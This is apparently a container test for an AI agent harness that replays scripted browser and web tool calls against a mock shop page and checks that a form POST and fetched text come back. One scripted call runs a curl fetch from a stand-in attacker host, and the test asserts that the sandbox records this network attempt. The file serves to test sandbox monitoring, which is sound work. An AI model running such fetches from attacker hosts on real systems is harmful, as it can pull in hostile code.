"""OpenClaw's browser and web tools against the small web of a trial, on the browser image."""

from __future__ import annotations

import pytest

from clawpro_artifact import building
from tests.container.conftest import IMAGES
from tests.container.trials import Bench, call, results, say

pytestmark = [pytest.mark.container, pytest.mark.browser]
PAGES = {
    "/": "<title>Home</title><h1>Boxes</h1><form action='/order' method='post'>"
    "<label>Count <input name='count'></label><button>Order</button></form>",
    "/order": {"methods": {"POST": {"text": "<h1>Thank you</h1>"}}},
    "http://shop.example/": "<h1>Shop of names</h1>",
}


def test_pages_are_fetched_and_forms_filled(engine, tmp_path):
    locked = building.read(IMAGES / "openclaw-2026.9.6-browser")
    image = building.build(locked, engine, building.Workshop())
    bench = Bench(engine, image.tag, "2026.9.6", ("browsing", "memory"), "container", tmp_path)
    home = "http://127.0.0.1:18082/"
    try:
        raw = bench.play(
            call("web_fetch", url="http://shop.example/"),
            call("exec", command="curl -s http://evil.example/x"),
            call("browser", action="open", url=home),
            call("browser", action="snapshot"),
            call("browser", action="act", request={"kind": "type", "ref": "e5", "text": "17"}),
            call("browser", action="act", request={"kind": "click", "ref": "e6"}),
            call("browser", action="snapshot"),
            say("ok"),
            surfaces={"browsing": {"pages": PAGES}},
        )
    finally:
        bench.host.close()
    assert raw.outcome == "completed"
    texts = results(raw)
    assert "Shop of names" in texts[0]
    assert 'textbox "Count" [ref=e5]' in texts[3]
    assert "Thank you" in texts[6]
    posts = [r for r in raw.stores["browsing_witness"]["requests"] if r["method"] == "POST"]
    assert posts == [{"method": "POST", "url": home + "order", "status": 200,
                      "form": {"count": "17"}}]  # fmt: skip
    assert [a["target"] for a in raw.network_attempts] == ["evil.example"]
